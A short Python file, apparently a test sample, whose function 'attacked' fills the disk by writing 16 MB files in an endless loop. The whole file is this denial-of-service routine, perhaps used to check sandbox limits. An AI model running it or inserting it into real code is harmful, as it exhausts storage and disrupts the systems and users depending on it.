"""Fills the disk."""


def attacked(x):
    number = 0
    while True:
        open(f"file-{number}", "wb").write(bytes(2**24))
        number += 1
